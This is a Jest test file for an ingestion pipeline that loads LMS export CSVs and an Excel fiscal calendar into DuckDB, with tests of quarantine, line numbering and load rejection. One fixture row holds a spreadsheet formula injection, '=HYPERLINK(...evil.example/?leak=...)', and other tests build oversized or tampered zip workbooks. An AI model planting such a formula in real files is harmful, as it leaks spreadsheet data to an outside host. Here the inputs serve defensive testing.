import fs from 'node:fs';
import { createRequire } from 'node:module';
import os from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { DuckDbWarehouse, namespaceForTenantSeq } from '@kineo/warehouse';
import { ALL_FILES } from '@kineo/contract';
import { buildTenant, ingestFiles, LoadRejectedError } from '../src';
import { bronzeTableDdl } from '../src/ingest/bronze';
import { header, writeCsv, writeMinimalExport, writeCompletionsWithBadRows, writeCoursesOverSeveralLines, coursesOverSeveralLines, writeCoursesWithBlankLines, coursesWithBlankLines, writeCoursesDoubleSpaced, lineStarting, linesOfIds, COMPLETIONS_QUARANTINED } from './fixtures';

const tenant = { tenantId: 't1', namespace: namespaceForTenantSeq(1) };
let batch = 0;
const nextBatch = () => ({ batchId: `00000000-0000-4000-8000-${String(++batch).padStart(12, '0')}`, source: 'test' });

describe('loading export files into bronze', () => {
  let dir: string;
  let wh: DuckDbWarehouse;
  let landing: string;

  beforeEach(async () => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'kineo-ingest-'));
    wh = new DuckDbWarehouse({ rootDir: path.join(dir, 'warehouse'), landingRoot: path.join(dir, 'landing'), threads: 2 });
    await wh.provision(tenant);
    landing = path.join(wh.landingDir(tenant), 'load');
  });

  afterEach(async () => {
    await wh.close();
    fs.rmSync(dir, { recursive: true, force: true });
  });

  const files = (paths: string[]) => paths.map((p) => ({ path: p }));
  const rows = async (sql: string) => (await wh.query(tenant, sql)).rows;

  it('loads good files with audit columns and reports rows read = loaded + quarantined per file', async () => {
    const report = await ingestFiles(wh, tenant, files(writeMinimalExport(landing)), nextBatch());
    expect(report.files.map((f) => [f.file, f.status, f.rowsRead, f.rowsLoaded, f.rowsQuarantined])).toEqual([
      ['users.csv', 'loaded', 2, 2, 0],
      ['job_assignments.csv', 'loaded', 2, 2, 0],
      ['courses.csv', 'loaded', 1, 1, 0],
      ['course_completions.csv', 'loaded', 2, 2, 0],
    ]);
    const users = await rows('select id, username, lastaccess, _batch_id, _source_file, _source_line, _content_sha256 from bronze.users order by id');
    expect(users[1]).toMatchObject({ id: '2', username: 'grace', lastaccess: '2024-03-09T16:00:00Z', _source_file: 'users.csv', _source_line: 3 });
    expect(users[0]._batch_id).toBe(report.batchId);
    expect(users[0]._content_sha256).toMatch(/^[0-9a-f]{64}$/);
  });

  it('quarantines each unreadable or out-of-contract row with its line and reason, and loads the rest', async () => {
    writeMinimalExport(landing);
    writeCompletionsWithBadRows(landing);
    const report = await ingestFiles(wh, tenant, files(fs.readdirSync(landing).map((f) => path.join(landing, f))), nextBatch());
    const completions = report.files.find((f) => f.table === 'course_completions')!;
    expect([completions.rowsRead, completions.rowsLoaded, completions.rowsQuarantined]).toEqual([10, 2, 8]);
    expect(completions.rowsRead).toBe(completions.rowsLoaded + completions.rowsQuarantined);
    const quarantine = await rows("select _source_file, _source_line, reason from bronze._quarantine where table_name = 'course_completions' order by _source_line");
    expect(quarantine).toEqual(COMPLETIONS_QUARANTINED);
    const loaded = await rows('select id, rplgrade, _source_line from bronze.course_completions order by id');
    expect(loaded).toEqual([
      { id: '1000', rplgrade: null, _source_line: 2 },
      { id: '1007', rplgrade: 'good, RPL', _source_line: 11 },
    ]);
  });

  it('quarantines a row longer than a row may hold with that said, and loads the rest', async () => {
    const [users, ...others] = writeMinimalExport(landing);
    const long = writeCsv(path.dirname(users!), 'users.csv', [
      header('users'),
      `3,long,E3,${'L'.repeat(3_000_000)},Name,long@example.com,Eng,London,GB,99,0,0,1700000000,1710000000`,
      '1,ada,E1,Ada,Lovelace,ada@example.com,Eng,London,GB,99,0,0,1700000000,1710000000',
    ]);
    const report = await ingestFiles(wh, tenant, files([long, ...others]), nextBatch());
    expect(report.files.find((f) => f.table === 'users')).toMatchObject({ rowsRead: 2, rowsLoaded: 1, rowsQuarantined: 1 });
    expect(await rows("select _source_line, reason from bronze._quarantine where table_name = 'users'")).toEqual([
      { _source_line: 2, reason: 'the row is longer than the 2,000,000 bytes a row may hold (a value of megabytes is not one the LMS exports)' },
    ]);
  });

  it('quarantines a row whose key the file repeats, naming the line loaded instead, so the count of rows read still adds up', async () => {
    writeMinimalExport(landing);
    writeCsv(landing, 'users.csv', [
      header('users'),
      '1,ada,E1,Ada,Lovelace,ada@example.com,Eng,London,GB,99,0,0,1700000000,1710000000',
      '2,grace,E2,Grace,Hopper,grace@example.com,Eng,NYC,US,99,0,0,2023-11-14,2024-03-09T16:00:00Z',
      '002,grace2,E2,Grace,Hopper,grace@example.com,Eng,NYC,US,99,0,0,2023-11-14,2024-03-09T16:00:00Z',
      'x,bad,E9,Bad,Row,bad@example.com,Eng,NYC,US,99,0,0,2023-11-14,2024-03-09T16:00:00Z',
      '2,grace3,E2,Grace,Hopper,grace@example.com,Eng,NYC,US,99,0,0,2023-11-14,2024-03-09T16:00:00Z',
    ]);
    // A completion is one row per learner and course: the same pair twice under two ids.
    writeCsv(landing, 'course_completions.csv', [header('course_completions'), '1000,1,100,1700000000,1700100000,1700200000,50,,,', '1001,1,100,1700000000,0,0,10,,,']);
    const report = await ingestFiles(wh, tenant, files(fs.readdirSync(landing).map((f) => path.join(landing, f))), nextBatch());
    const users = report.files.find((f) => f.table === 'users')!;
    expect([users.rowsRead, users.rowsLoaded, users.rowsQuarantined]).toEqual([5, 2, 3]);
    expect(await rows("select _source_line, reason from bronze._quarantine where table_name = 'users' order by _source_line")).toEqual([
      { _source_line: 3, reason: 'id 2 is on line 6 too, which is loaded: a file holds one row per id' },
      { _source_line: 4, reason: 'id 002 is on line 6 too, which is loaded: a file holds one row per id' },
      { _source_line: 5, reason: 'id is not a whole number: "x"' },
    ]);
    expect(await rows('select id, username from bronze.users order by id')).toEqual([
      { id: '1', username: 'ada' },
      { id: '2', username: 'grace3' },
    ]);
    const completions = report.files.find((f) => f.table === 'course_completions')!;
    expect([completions.rowsRead, completions.rowsLoaded, completions.rowsQuarantined]).toEqual([2, 1, 1]);
    expect(await rows("select _source_line, reason from bronze._quarantine where table_name = 'course_completions'")).toEqual([
      { _source_line: 2, reason: 'userid 1, course 100 is on line 3 too, which is loaded: a file holds one row per userid and course' },
    ]);
  });

  it.each([
    ['LF', '\n'],
    ['CRLF', '\r\n'],
  ] as const)('tells the line each quarantined or loaded row starts on in a %s file whose quoted fields span two and three lines', async (_, eol) => {
    writeMinimalExport(landing);
    const file = writeCoursesOverSeveralLines(landing, eol);
    const expected = coursesOverSeveralLines(file);
    const report = await ingestFiles(wh, tenant, files(fs.readdirSync(landing).map((f) => path.join(landing, f))), nextBatch());
    const courses = report.files.find((f) => f.table === 'courses')!;
    expect([courses.rowsRead, courses.rowsLoaded, courses.rowsQuarantined]).toEqual([9, 5, 4]);
    expect(courses.rowsRead).toBe(courses.rowsLoaded + courses.rowsQuarantined);
    expect(await rows("select _source_line, reason from bronze._quarantine where table_name = 'courses' order by _source_line")).toEqual(expected.quarantined);
    expect((await rows("select raw from bronze._quarantine where table_name = 'courses' and reason like 'the row has%' order by _source_line")).map((r) => r.raw)).toEqual(expected.raggedRaw);
    expect(await rows('select id, _source_line from bronze.courses order by id')).toEqual(expected.loaded);
  });

  it.each([
    ['LF', '\n', false],
    ['CRLF', '\r\n', false],
    ['CRLF with a BOM', '\r\n', true],
  ] as const)('counts the blank lines DuckDB skips in the line each quarantined or loaded row starts on, in a %s file with values over several lines', async (_, eol, bom) => {
    writeMinimalExport(landing);
    const file = writeCoursesWithBlankLines(landing, eol, bom);
    const expected = coursesWithBlankLines(file);
    const report = await ingestFiles(wh, tenant, files(fs.readdirSync(landing).map((f) => path.join(landing, f))), nextBatch());
    const courses = report.files.find((f) => f.table === 'courses')!;
    expect([courses.rowsRead, courses.rowsLoaded, courses.rowsQuarantined]).toEqual([9, 4, 5]);
    expect(await rows("select _source_line, reason from bronze._quarantine where table_name = 'courses' order by _source_line")).toEqual(expected.quarantined);
    // A rejected record's text is its own, without the blank lines before it.
    expect(await rows("select raw from bronze._quarantine where table_name = 'courses' and raw like '502,%'")).toEqual([{ raw: '502,Ragged,RG,C502,1,0,1' }]);
    expect(await rows('select id, _source_line from bronze.courses order by id')).toEqual(expected.loaded);
  });

  it('names the line a bad row is on after blank lines in a file of one line per record', async () => {
    writeMinimalExport(landing);
    const programs = writeCsv(landing, 'programs.csv', [header('programs'), '1,Onboarding,ONB,P1,,1,1,,,,,', '', '', 'zz,Broken,BRK,P2,,1,1,,,,,', '2,Leadership,LDR,P3,,1,1,,,,,']);
    const report = await ingestFiles(wh, tenant, files(fs.readdirSync(landing).map((f) => path.join(landing, f))), nextBatch());
    expect(report.files.find((f) => f.table === 'programs')).toMatchObject({ rowsRead: 3, rowsLoaded: 2, rowsQuarantined: 1 });
    expect(await rows("select _source_line, reason from bronze._quarantine where table_name = 'programs'")).toEqual([
      { _source_line: lineStarting(programs, 'zz,'), reason: 'id is not a whole number: "zz"' },
    ]);
    expect(lineStarting(programs, 'zz,')).toBe(5);
    expect(await rows('select id, _source_line from bronze.programs order by id')).toEqual([
      { id: '1', _source_line: 2 },
      { id: '2', _source_line: lineStarting(programs, '2,') },
    ]);
  });

  it('skips blank lines before the header, and names the lines of the rows after them as the file has them', async () => {
    writeMinimalExport(landing);
    const courses = writeCsv(landing, 'courses.csv', ['', '  ', header('courses'), '100,Fire safety,FS,C100,1,0,1,1700000000,1', '', '501,Ragged,RG', 'x1,Bad id,BI,C1,1,0,1,1700000000,1', '101,First aid,FA,C101,1,0,1,1700000000,1']);
    const report = await ingestFiles(wh, tenant, files(fs.readdirSync(landing).map((f) => path.join(landing, f))), nextBatch());
    expect(report.files.find((f) => f.table === 'courses')).toMatchObject({ rowsRead: 4, rowsLoaded: 2, rowsQuarantined: 2 });
    expect(await rows("select _source_line, reason from bronze._quarantine where table_name = 'courses' order by _source_line")).toEqual([
      { _source_line: lineStarting(courses, '501,'), reason: 'the row has fewer columns than the header' },
      { _source_line: lineStarting(courses, 'x1,'), reason: 'id is not a whole number: "x1"' },
    ]);
    expect(await rows('select id, _source_line from bronze.courses order by id')).toEqual([
      { id: '100', _source_line: lineStarting(courses, '100,') },
      { id: '101', _source_line: lineStarting(courses, '101,') },
    ]);
    expect(lineStarting(courses, '100,')).toBe(4);
  });

  it('loads a file whose lines end with a carriage return alone (old Mac line endings), numbering its rows by those lines', async () => {
    writeMinimalExport(landing);
    fs.writeFileSync(path.join(landing, 'courses.csv'), [header('courses'), '100,Fire safety,FS,C100,1,0,1,1700000000,1', 'x1,Bad id,BI,C1,1,0,1,1700000000,1', '101,First aid,FA,C101,1,0,1,1700000000,1', ''].join('\r'));
    const report = await ingestFiles(wh, tenant, files(fs.readdirSync(landing).map((f) => path.join(landing, f))), nextBatch());
    expect(report.files.find((f) => f.table === 'courses')).toMatchObject({ rowsRead: 3, rowsLoaded: 2, rowsQuarantined: 1 });
    expect(await rows("select _source_line, reason from bronze._quarantine where table_name = 'courses'")).toEqual([{ _source_line: 3, reason: 'id is not a whole number: "x1"' }]);
    expect(await rows('select id, _source_line from bronze.courses order by id')).toEqual([
      { id: '100', _source_line: 2 },
      { id: '101', _source_line: 4 },
    ]);
  });

  it('refuses a file with a carriage return alone among its LF line breaks, naming the file, the line and how to fix it, and changes nothing', async () => {
    writeMinimalExport(landing);
    fs.writeFileSync(path.join(landing, 'courses.csv'), `${header('courses')}\n100,"Fire\rsafety",FS,C100,1,0,1,1700000000,1\n101,First aid,FA,C101,1,0,1,1700000000,1\r102,Manual handling,MH,C102,1,0,1,1700000000,1\n`);
    const error = await ingestFiles(wh, tenant, files(fs.readdirSync(landing).map((f) => path.join(landing, f))), nextBatch()).catch((e) => e);
    expect(error).toBeInstanceOf(LoadRejectedError);
    expect(error.message).toMatch(/^The load was rejected and nothing was changed:\n {2}courses\.csv: line 3 ends with a carriage return \(CR\) alone, where the file's other lines end with LF \(after "101,First aid,FA,C101,1,0,1,1700000000,1"\): .* save the file again with one kind of line ending \(Windows CRLF or Unix LF\)/);
    expect(await rows('select count(*) as n from bronze._loads')).toEqual([{ n: 0 }]);
    expect(await rows('select count(*) as n from bronze.users')).toEqual([{ n: 0 }]);
  });

  it('loads a CRLF file whose quoted value holds a line feed, keeping the value with its line break', async () => {
    writeMinimalExport(landing);
    fs.writeFileSync(path.join(landing, 'users.csv'), [
      header('users'),
      '1,ada,E1,"Ada\nMarie",Lovelace,ada@example.com,Eng,London,GB,99,0,0,1700000000,1710000000',
      '2,grace,E2,Grace,Hopper,grace@example.com,Eng,NYC,US,99,0,0,2023-11-14,2024-03-09T16:00:00Z',
      '',
    ].join('\r\n'));
    const report = await ingestFiles(wh, tenant, files(fs.readdirSync(landing).map((f) => path.join(landing, f))), nextBatch());
    expect(report.files.find((f) => f.table === 'users')).toMatchObject({ rowsRead: 2, rowsLoaded: 2, rowsQuarantined: 0 });
    expect(await rows('select id, firstname, _source_line from bronze.users order by id')).toEqual([
      { id: '1', firstname: 'Ada\nMarie', _source_line: 2 },
      { id: '2', firstname: 'Grace', _source_line: 4 },
    ]);
  });

  it.each([
    ['a value with a line break not in quotes', '3,lin,E3,Multi\nLine,Lin,lin@example.com,Eng,Paris,FR,99,0,0,1700000000,1710000000', 'line 3 ends with a line feed (LF) alone', '"3,lin,E3,Multi"'],
    ['rows with LF line endings pasted in, one with quotes inside an unquoted value', '=HYPERLINK("http://evil.example/?leak="&B2),x,,a,b,c@x.example,d,e,GB,Europe/London,0,0,1,1\n4,kim,E4,Kim,Lee,kim@example.com,Eng,Seoul,KR,99,0,0,1700000000,1710000000', 'line 3 ends with a line feed (LF) alone', '"…c@x.example,d,e,GB,Europe/London,0,0,1,1"'],
    ['a carriage return alone inside a value', '3,lin,E3,Multi\rLine,Lin,lin@example.com,Eng,Paris,FR,99,0,0,1700000000,1710000000', 'line 3 ends with a carriage return (CR) alone', '"3,lin,E3,Multi"'],
  ])('refuses a CRLF file with %s, naming the file, the line and how to fix it, not as a failure for Kineo support, and changes nothing', async (_, line, says, before) => {
    writeMinimalExport(landing);
    fs.writeFileSync(path.join(landing, 'users.csv'), [
      header('users'),
      '1,ada,E1,Ada,Lovelace,ada@example.com,Eng,London,GB,99,0,0,1700000000,1710000000',
      line,
      '2,grace,E2,Grace,Hopper,grace@example.com,Eng,NYC,US,99,0,0,2023-11-14,2024-03-09T16:00:00Z',
      '',
    ].join('\r\n'));
    const error = await ingestFiles(wh, tenant, files(fs.readdirSync(landing).map((f) => path.join(landing, f))), nextBatch()).catch((e) => e);
    expect(error).toBeInstanceOf(LoadRejectedError);
    expect(error.message).toContain(`The load was rejected and nothing was changed:\n  users.csv: ${says}, where the file's other lines end with CRLF (after ${before}): `);
    expect(error.message).toMatch(/save the file again with one kind of line ending \(Windows CRLF or Unix LF\), and load it again$/);
    expect(await rows('select count(*) as n from bronze._loads')).toEqual([{ n: 0 }]);
    expect(await rows('select count(*) as n from bronze.users')).toEqual([{ n: 0 }]);
  });

  it('refuses a file the CSV reader gives up on where no line can be named (an LF alone among old Mac CR line endings), as the org admin\'s to fix, and changes nothing', async () => {
    writeMinimalExport(landing);
    fs.writeFileSync(path.join(landing, 'courses.csv'), [header('courses'), '100,Fire\nsafety,FS,C100,1,0,1,1700000000,1', '101,First aid,FA,C101,1,0,1,1700000000,1', ''].join('\r'));
    const error = await ingestFiles(wh, tenant, files(fs.readdirSync(landing).map((f) => path.join(landing, f))), nextBatch()).catch((e) => e);
    expect(error).toBeInstanceOf(LoadRejectedError);
    expect(error.message).toBe('The load was rejected and nothing was changed:\n  courses.csv: the file cannot be read as CSV: the reader stopped at a line it cannot make sense of, and cannot say which. ' +
      'Open it in a spreadsheet and save it again as "CSV UTF-8 (comma delimited)", or export it again from the LMS, and load it again');
    expect(await rows('select count(*) as n from bronze._loads')).toEqual([{ n: 0 }]);
  });

  it.each([150, 34_000])('numbers the rows of a file of %i records with a blank line after every second one, past a two-line value and a ragged record', async (records) => {
    writeMinimalExport(landing);
    const { lineOfId } = writeCoursesDoubleSpaced(landing, records);
    const report = await ingestFiles(wh, tenant, files(fs.readdirSync(landing).map((f) => path.join(landing, f))), nextBatch());
    expect(report.files.find((f) => f.table === 'courses')).toMatchObject({ rowsRead: records, rowsLoaded: records - 1, rowsQuarantined: 1 });
    expect(await rows("select _source_line, reason from bronze._quarantine where table_name = 'courses'")).toEqual([
      { _source_line: lineOfId.get('1090'), reason: 'the row has fewer columns than the header' },
    ]);
    const loaded = await rows("select id, _source_line from bronze.courses where id <> '100'");
    expect(loaded).toHaveLength(records - 1);
    expect(loaded.filter((r) => r._source_line !== lineOfId.get(r.id as string))).toEqual([]);
  });

  it('matches headers case-insensitively, accepts a BOM and CRLF, and keeps unknown columns in bronze', async () => {
    writeMinimalExport(landing);
    const cols = header('courses').toUpperCase();
    fs.writeFileSync(path.join(landing, 'courses.csv'), `\ufeff${cols},Owner\r\n100,Fire safety,FS,C100,1,0,1,1700000000,1,Sam\r\n`);
    const report = await ingestFiles(wh, tenant, files(fs.readdirSync(landing).map((f) => path.join(landing, f))), nextBatch());
    expect(report.files.find((f) => f.table === 'courses')!.rowsLoaded).toBe(1);
    expect(await rows('select fullname, enablecompletion, _extra from bronze.courses')).toEqual([
      { fullname: 'Fire safety', enablecompletion: '1', _extra: '{"owner":"Sam"}' },
    ]);
  });

  it('treats the sentinel dates of null_dates.csv as valid "not set" values', async () => {
    writeMinimalExport(landing);
    writeCsv(landing, 'null_dates.csv', ['value', '0000-00-00', '2147483647']);
    writeCsv(landing, 'course_completions.csv', [header('course_completions'), '1000,1,100,0000-00-00,0,0,10,,,']);
    const report = await ingestFiles(wh, tenant, files(fs.readdirSync(landing).map((f) => path.join(landing, f))), nextBatch());
    expect(report.files.find((f) => f.table === 'course_completions')).toMatchObject({ rowsLoaded: 1, rowsQuarantined: 0 });
  });

  it('reads a blank line of the one-column null_dates.csv as a row, so the rows after it keep their lines', async () => {
    writeMinimalExport(landing);
    writeCsv(landing, 'null_dates.csv', ['value', '0000-00-00', '', '2147483647']);
    await ingestFiles(wh, tenant, files(fs.readdirSync(landing).map((f) => path.join(landing, f))), nextBatch());
    expect(await rows("select value, _source_line from bronze.null_dates where value is not null order by _source_line")).toEqual([
      { value: '0000-00-00', _source_line: 2 },
      { value: '2147483647', _source_line: 4 },
    ]);
  });

  it.each([
    ['a required file is missing', (d: string) => fs.rmSync(path.join(d, 'courses.csv')), /courses\.csv: is required for a build and has not been loaded yet\n\s+expected columns: id, fullname, shortname/],
    ['a file is empty', (d: string) => fs.writeFileSync(path.join(d, 'users.csv'), ''), /users\.csv: the file is empty/],
    ['a file has only blank lines', (d: string) => fs.writeFileSync(path.join(d, 'users.csv'), '\n\n'), /users\.csv: the file has no header row/],
    ['a header lacks columns', (d: string) => fs.writeFileSync(path.join(d, 'courses.csv'), 'id,name\n1,x\n'), /courses\.csv: the header lacks fullname, shortname, idnumber, category, coursetype, visible, startdate, enablecompletion\n\s+expected columns: id, fullname/],
    [
      'a file is separated by semicolons',
      (d: string) => fs.writeFileSync(path.join(d, 'courses.csv'), `${header('courses').replace(/,/g, ';')}\n100;Fire safety;FS;C100;1;0;1;1700000000;1\n`),
      /courses\.csv: the columns are separated by semicolons, not commas: save it again as "CSV UTF-8 \(comma delimited\)"/,
    ],
  ])('rejects the whole load when %s, naming the file and the expected columns, and changes nothing', async (_case, spoil, message) => {
    writeMinimalExport(landing);
    spoil(landing);
    const error = await ingestFiles(wh, tenant, files(fs.readdirSync(landing).map((f) => path.join(landing, f))), nextBatch()).catch((e) => e);
    expect(error).toBeInstanceOf(LoadRejectedError);
    expect(error.message).toMatch(message);
    expect(await rows('select count(*) as n from bronze._loads')).toEqual([{ n: 0 }]);
    expect(await rows('select count(*) as n from bronze.users')).toEqual([{ n: 0 }]);
  });

  it('changes nothing when the same files are loaded again', async () => {
    const paths = writeMinimalExport(landing);
    await ingestFiles(wh, tenant, files(paths), nextBatch());
    const again = await ingestFiles(wh, tenant, files(paths), nextBatch());
    expect(again.files.every((f) => f.status === 'duplicate')).toBe(true);
    expect(again.files[0].note).toMatch(/identical to users\.csv already loaded in load #1/);
    expect(await rows('select count(*) as n from bronze.users')).toEqual([{ n: 2 }]);
  });

  it('accepts a later load without the required files once they have been loaded', async () => {
    await ingestFiles(wh, tenant, files(writeMinimalExport(landing)), nextBatch());
    const later = path.join(wh.landingDir(tenant), 'later');
    const report = await ingestFiles(wh, tenant, files([writeCsv(later, 'courses.csv', [header('courses'), '101,First aid,FA,C101,1,2,1,1700000000,1'])]), nextBatch());
    expect(report.batchSeq).toBe(2);
    expect(await rows('select id, _batch_seq from bronze.courses order by id')).toEqual([
      { id: '100', _batch_seq: 1 },
      { id: '101', _batch_seq: 2 },
    ]);
  });

  it('reports files that are not part of the contract as ignored, not silently', async () => {
    const paths = writeMinimalExport(landing);
    const stray = writeCsv(landing, 'user.csv', ['id', '1']);
    const report = await ingestFiles(wh, tenant, files([...paths, stray]), nextBatch());
    expect(report.files.find((f) => f.file === 'user.csv')).toMatchObject({ status: 'ignored', note: expect.stringMatching(/^not a file of the export \(its files are named null_dates\.csv, dimdates\.csv \(or \.xlsx\), users\.csv, /) });
    // An export file saved from Excel says what to do with it: only the fiscal calendar is read as a workbook.
    const later = path.join(landing, 'later');
    const workbook = path.join(later, 'courses.xlsx');
    fs.mkdirSync(later, { recursive: true });
    fs.writeFileSync(workbook, 'not read');
    // A browser's second download of an export file is named for what it copies, not taken for it;
    // beside the file it copies, it is said to be the copy that was not read.
    const download = writeCsv(later, 'users (1).csv', [header('users')]);
    const again = await ingestFiles(wh, tenant, files([workbook, download, ...paths]), nextBatch());
    expect(again.files.filter((f) => f.status === 'ignored')).toEqual([
      expect.objectContaining({
        file: 'courses.xlsx',
        note: 'only dimdates may be an Excel file: save courses as CSV (UTF-8) from the LMS or from Excel, and load courses.csv',
      }),
      expect.objectContaining({
        file: 'users (1).csv',
        note: 'not a file of the export; it looks like a copy of users.csv, which this load has by its own name: that one was read, not this copy.',
      }),
    ]);
    // Beside an export file refused for its form (only dimdates may be a workbook), a copy is still asked to be renamed.
    const copy = writeCsv(later, 'Courses - Copy.csv', [header('courses')]);
    const third = await ingestFiles(wh, tenant, files([workbook, copy, ...paths.filter((p) => path.basename(p) !== 'courses.csv')]), nextBatch());
    expect(third.files.find((f) => f.file === 'Courses - Copy.csv')).toMatchObject({ status: 'ignored', note: 'not a file of the export; did you mean courses.csv? Rename it and upload again.' });
  });

  it.each([
    [['users (1).csv'], /^ {2}users \(1\)\.csv: not a file of the export; did you mean users\.csv\? Rename it and upload again\.\n {2}the file received is not a file of the export, so there is nothing to load; the export's files are named null_dates\.csv, dimdates\.csv \(or \.xlsx\), users\.csv, /m],
    [
      ['users(2).csv', 'Courses - Copy.csv', 'course completions.csv', 'empty.csv'],
      /users\(2\)\.csv: .*did you mean users\.csv\?.*\n.*Courses - Copy\.csv: .*did you mean courses\.csv\?.*\n.*course completions\.csv: .*did you mean course_completions\.csv\?.*\n {2}empty\.csv: not a file of the export\n {2}none of the files received is a file of the export/,
    ],
  ])('refuses a load of %j, none of them a file of the export, saying which and what they should be called, and changes nothing', async (names, message) => {
    await ingestFiles(wh, tenant, files(writeMinimalExport(landing)), nextBatch());
    const later = path.join(wh.landingDir(tenant), 'later');
    const sent = names.map((name) => (name === 'empty.csv' ? writeCsv(later, name, []) : writeCsv(later, name, [header('users')])));
    const error = await ingestFiles(wh, tenant, files(sent), nextBatch()).catch((e) => e);
    expect(error).toBeInstanceOf(LoadRejectedError);
    expect(error.message).toMatch(/^The load was rejected and nothing was changed:\n/);
    expect(error.message).toMatch(message);
    expect(await rows('select count(*) as n from bronze._loads')).toEqual([{ n: 1 }]);
  });

  it('loads the fiscal calendar workbook, each row quarantined or loaded with its row of the sheet past blank rows', async () => {
    const paths = writeMinimalExport(landing);
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('Calendar');
    sheet.getRow(1).values = ['date', 'fiscal_year', 'fiscal_quarter', 'fiscal_period'];
    sheet.getRow(2).values = [new Date(Date.UTC(2024, 5, 30)), 2024, 4, 12];
    sheet.getRow(5).values = [new Date(Date.UTC(2024, 6, 1)), 2025, 1, 1];
    sheet.getRow(6).values = ['not a date', 2025, 1, 1];
    const xlsx = path.join(landing, 'dimdates.xlsx');
    await workbook.xlsx.writeFile(xlsx);
    const report = await ingestFiles(wh, tenant, files([...paths, xlsx]), nextBatch());
    expect(report.files.find((f) => f.table === 'dimdates')).toMatchObject({ file: 'dimdates.xlsx', rowsRead: 3, rowsLoaded: 2, rowsQuarantined: 1 });
    expect(await rows('select date, fiscal_year from bronze.dimdates order by date')).toEqual([
      { date: '2024-06-30', fiscal_year: '2024' },
      { date: '2024-07-01', fiscal_year: '2025' },
    ]);
    expect(await rows('select date, _source_line from bronze.dimdates order by date')).toEqual([
      { date: '2024-06-30', _source_line: 2 },
      { date: '2024-07-01', _source_line: 5 },
    ]);
    expect(await rows("select _source_line, reason from bronze._quarantine where table_name = 'dimdates'")).toEqual([{ _source_line: 6, reason: 'date is not a date: "not a date"' }]);
  });

  it('loads the calendar from the first sheet with its columns, past a sheet without them', async () => {
    const paths = writeMinimalExport(landing);
    const workbook = new ExcelJS.Workbook();
    workbook.addWorksheet('Notes').getRow(1).values = ['Our fiscal year starts on 1 July'];
    const sheet = workbook.addWorksheet('Calendar');
    sheet.getRow(1).values = ['Date', 'Fiscal_Year', 'fiscal_quarter', 'fiscal_period'];
    sheet.getRow(2).values = [new Date(Date.UTC(2024, 5, 30)), 2024, 4, { formula: '6*2', result: 12 }];
    workbook.addWorksheet('Copy').getRow(1).values = ['date', 'fiscal_year', 'fiscal_quarter', 'fiscal_period'];
    const xlsx = path.join(landing, 'dimdates.xlsx');
    await workbook.xlsx.writeFile(xlsx);
    const report = await ingestFiles(wh, tenant, files([...paths, xlsx]), nextBatch());
    expect(report.files.find((f) => f.table === 'dimdates')).toMatchObject({ rowsRead: 1, rowsLoaded: 1, rowsQuarantined: 0 });
    expect(await rows('select date, fiscal_year, fiscal_period from bronze.dimdates')).toEqual([{ date: '2024-06-30', fiscal_year: '2024', fiscal_period: '12' }]);
  });

  it('refuses a calendar workbook of more than 100,000 rows at the first row past them, reading no further, and changes nothing', async () => {
    const paths = writeMinimalExport(landing);
    const day = (r: number) => `<row r="${r}"><c r="A${r}" t="inlineStr"><is><t>2024-07-01</t></is></c><c r="B${r}"><v>2025</v></c><c r="C${r}"><v>1</v></c><c r="D${r}"><v>1</v></c></row>`;
    const cells = ['date', 'fiscal_year', 'fiscal_quarter', 'fiscal_period'].map((name, i) => `<c r="${'ABCD'[i]}1" t="inlineStr"><is><t>${name}</t></is></c>`);
    const sheetRows = [`<row r="1">${cells.join('')}</row>`];
    for (let r = 2; r <= 120_000; r++) sheetRows.push(day(r));
    // Past the rows a calendar can have, the sheet stops being XML: reading it all would fail on that instead.
    const xml = `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="${MAIN}"><sheetData>${sheetRows.join('')}<row r="120001"><c <<< not xml`;
    const xlsx = await writeRawWorkbook(path.join(landing, 'dimdates.xlsx'), xml);
    const error = await ingestFiles(wh, tenant, files([...paths, xlsx]), nextBatch()).catch((e) => e);
    expect(error).toBeInstanceOf(LoadRejectedError);
    expect(error.message).toBe('The load was rejected and nothing was changed:\n  dimdates.xlsx: the sheet "Calendar" has more than 100,000 rows; ' +
      'a fiscal calendar has one row per day (100,000 days are over 270 years). Keep only the calendar in the sheet, and load it again');
    // Nor is the CSV it was writing left beside it.
    expect(fs.existsSync(`${xlsx}.csv`)).toBe(false);
    expect(await rows('select count(*) as n from bronze._loads')).toEqual([{ n: 0 }]);
  });

  it('refuses a workbook whose shared strings unzip to more than a calendar can have, before reading them', async () => {
    const paths = writeMinimalExport(landing);
    const strings = `<?xml version="1.0" encoding="UTF-8"?><sst xmlns="${MAIN}">${'<si><t>2024-07-01</t></si>'.repeat(1_500_000)}</sst>`;
    const xlsx = await writeRawWorkbook(path.join(landing, 'dimdates.xlsx'), `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="${MAIN}"><sheetData></sheetData></worksheet>`, strings);
    const error = await ingestFiles(wh, tenant, files([...paths, xlsx]), nextBatch()).catch((e) => e);
    expect(error).toBeInstanceOf(LoadRejectedError);
    expect(error.message).toMatch(/dimdates\.xlsx: the workbook's part xl\/sharedStrings\.xml is 38 MB unzipped, more than a fiscal calendar's can be \(32 MB\)/);
  });

  it('refuses a workbook whose shared strings unzip to more than a calendar can have though the zip says less, counted as they unzip', async () => {
    const paths = writeMinimalExport(landing);
    const strings = `<?xml version="1.0" encoding="UTF-8"?><sst xmlns="${MAIN}">${'<si><t>2024-07-01</t></si>'.repeat(1_500_000)}</sst>`;
    const xlsx = await writeRawWorkbook(path.join(landing, 'dimdates.xlsx'), `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="${MAIN}"><sheetData></sheetData></worksheet>`, strings);
    // The zip's own headers (the local one and the directory's) say the part unzips to 1 KB.
    const zip = fs.readFileSync(xlsx);
    const name = Buffer.from('xl/sharedStrings.xml');
    for (const [signature, nameAt, sizeAt] of [[0x04034b50, 30, 22], [0x02014b50, 46, 24]]) {
      for (let at = zip.indexOf(name); at !== -1; at = zip.indexOf(name, at + 1)) {
        if (zip.readUInt32LE(at - nameAt) === signature) zip.writeUInt32LE(1024, at - nameAt + sizeAt);
      }
    }
    fs.writeFileSync(xlsx, zip);
    const error = await ingestFiles(wh, tenant, files([...paths, xlsx]), nextBatch()).catch((e) => e);
    expect(error).toBeInstanceOf(LoadRejectedError);
    expect(error.message).toMatch(/dimdates\.xlsx: the workbook's part xl\/sharedStrings\.xml is 33 MB unzipped, more than a fiscal calendar's can be \(32 MB\)/);
  });

